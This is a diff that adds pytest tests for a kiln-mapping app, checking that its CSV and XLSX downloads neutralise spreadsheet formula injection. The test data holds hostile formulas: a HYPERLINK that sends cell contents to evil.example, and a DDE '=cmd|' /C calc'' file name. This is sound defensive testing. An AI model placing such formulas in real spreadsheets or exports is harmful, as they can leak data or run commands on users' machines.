@@ -130,3 +130,111 @@ def test_xlsx_without_demo_data_has_no_demo_line():
     lines = [[c.value for c in row] for row in book["About"].iter_rows()]
     assert lines[0] == ["Bhatta Atlas export", None]
     assert not any(DEMO_LINE in str(value) for line in lines for value in line)
+
+
+# -- every download of the app, with every formula trigger, in cells and headers --------------------------
+
+TRIGGERS = ['=HYPERLINK("http://evil.example/?x="&A1,"Open")', "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+
+
+def _inert(cell: str) -> bool:
+    """A CSV cell no spreadsheet evaluates: text not starting with a trigger, or a plain number."""
+    return cell[:1] not in ("=", "+", "-", "@", "\t", "\r") or _number(cell)
+
+
+def _csv_inert(payload: bytes) -> list[list[str]]:
+    _, rows = _csv_rows(payload)
+    assert rows and all(_inert(cell) for row in rows for cell in row), rows
+    return rows
+
+
+def _xlsx_inert(payload: bytes) -> list[list[object]]:
+    book = openpyxl.load_workbook(io.BytesIO(payload))
+    values = []
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                assert not isinstance(cell.value, str) or _inert(cell.value.replace("\n", "\r")), cell.value
+        values += [[c.value for c in row] for row in sheet.iter_rows()]
+    return values
+
+
+@pytest.mark.parametrize("payload", TRIGGERS)
+def test_each_trigger_is_text_in_csv_and_xlsx_cells_and_headers(payload):
+    frame = pd.DataFrame({payload: [payload, "plain"], "count": [1, -2]})
+    rows = _csv_inert(to_csv_bytes(frame, sources=[payload], synthetic=False, notes=[payload]))
+    assert rows[0] == ["'" + payload, "count"] and rows[1] == ["'" + payload, "1"] and rows[2][1] == "-2"
+    values = _xlsx_inert(to_xlsx_bytes(frame, sheet="Kilns", sources=[payload], synthetic=False, notes=[payload]))
+    shown = "'" + payload.replace("\r", "\n")  # an XML reader gives a carriage return back as a line feed
+    assert values[0] == [shown, "count"] and values[1] == [shown, 1] and values[2] == ["plain", -2]
+    assert ["Source", shown] in values and ["Note", shown] in values  # the About sheet too
+
+
+def test_text_columns_of_every_dtype_are_neutralised():
+    frame = pd.DataFrame({
+        "category": pd.Categorical(["=1+1", "a"]),
+        "string": pd.array(["+1", None], dtype="string"),
+        "mixed": ["@x", 5],
+    })
+    rows = _csv_inert(to_csv_bytes(frame, sources=[], synthetic=False))
+    assert rows[1:] == [["'=1+1", "'+1", "'@x"], ["a", "", "5"]]
+    _xlsx_inert(to_xlsx_bytes(frame, sheet="t", sources=[], synthetic=False))
+
+
+@pytest.fixture(scope="module")
+def hostile_plan():
+    """A route planned through kilns whose ids are formula payloads (an imported kiln register)."""
+    from layers.routing import RouteSettings, plan_routes
+
+    kilns = pd.DataFrame({
+        "kiln_id": TRIGGERS, "lat": [31.13, 31.15, 31.10, 31.12, 31.14, 31.11],
+        "lon": [74.47, 74.40, 74.43, 74.45, 74.42, 74.46], "priority": [50.0, 40.0, 30.0, 20.0, 10.0, 5.0],
+        "district_pcode": "PK614", "tehsil_pcode": "PK61401", "last_visit_date": pd.NaT,
+    })
+    plan = plan_routes(kilns, start=(31.1167, 74.45), settings=RouteSettings(km_budget=200, hours_per_day=12))
+    assert sorted(plan.stops["kiln_id"]) == sorted(TRIGGERS)
+    return plan
+
+
+def test_route_csv_of_the_routes_page_is_inert(hostile_plan):
+    rows = _csv_inert(to_csv_bytes(hostile_plan.stops, sources=SOURCES, synthetic=False,
+                                   notes=[hostile_plan.assumptions]))
+    column = rows[0].index("kiln_id")
+    assert sorted(r[column] for r in rows[1:]) == sorted("'" + t for t in TRIGGERS)
+
+
+def test_visit_sheet_csv_is_inert(hostile_plan):
+    from layers.route_map import visit_template
+
+    rows = _csv_inert(to_csv_bytes(visit_template(hostile_plan), sources=SOURCES, synthetic=False,
+                                   notes=["Fill visit_date and the findings of each kiln visited"]))
+    assert sorted(r[2] for r in rows[1:]) == sorted("'" + t for t in TRIGGERS)
+
+
+def test_gaps_tables_are_inert_in_csv_and_xlsx():
+    """The Gaps page's kiln table (ids, reasons on several lines) as its CSV and XLSX downloads."""
+    table = pd.DataFrame({"Rank": [1, 2], "Kiln": TRIGGERS[:2], "Priority": [12.5, -1.0],
+                          "Why this kiln": ["=never visited +30\n-far from a school", TRIGGERS[5]],
+                          "Last visit": [date(2026, 1, 2), None]})
+    rows = _csv_inert(to_csv_bytes(table, sources=SOURCES, synthetic=True, notes=["As of 2026-05-02"]))
+    assert rows[1][1] == "'" + TRIGGERS[0] and rows[2][2] == "-1.0"
+    _xlsx_inert(to_xlsx_bytes(table, sheet="Kilns to visit", sources=SOURCES, synthetic=True))
+
+
+def test_rejected_rows_download_is_inert(tmp_path):
+    """The Load data page's rejected rows, built as the page builds them from a file of payloads."""
+    from loaders.validate import check_file
+
+    path = tmp_path / "schools.csv"
+    lines = ["name,lat,lon,level"] + [f'"{t}",31.5,74.3,"{t}"' for t in TRIGGERS if '"' not in t]
+    lines.append('"=HYPERLINK(""http://evil.example"",""x"")",99,999,primary')
+    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    report = check_file(path, "schools", display_name="=cmd|' /C calc'!A0.csv")
+    rejected = pd.DataFrame([p.as_dict() for p in report.rejected])
+    rejected["value"] = rejected["value"].astype(str)
+    assert any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for v in rejected["value"])  # the page's frame is hostile
+    raw = rejected.to_csv(index=False)  # what the page wrote before: formulas left live
+    assert any(line[:1] == "=" or ",=" in line or ',"=' in line for line in raw.splitlines())
+    rows = _csv_inert(to_csv_bytes(rejected, sources=[f"rejected rows of {report.file}"], synthetic=False))
+    assert rows[0] == ["row", "column", "value", "reason"]
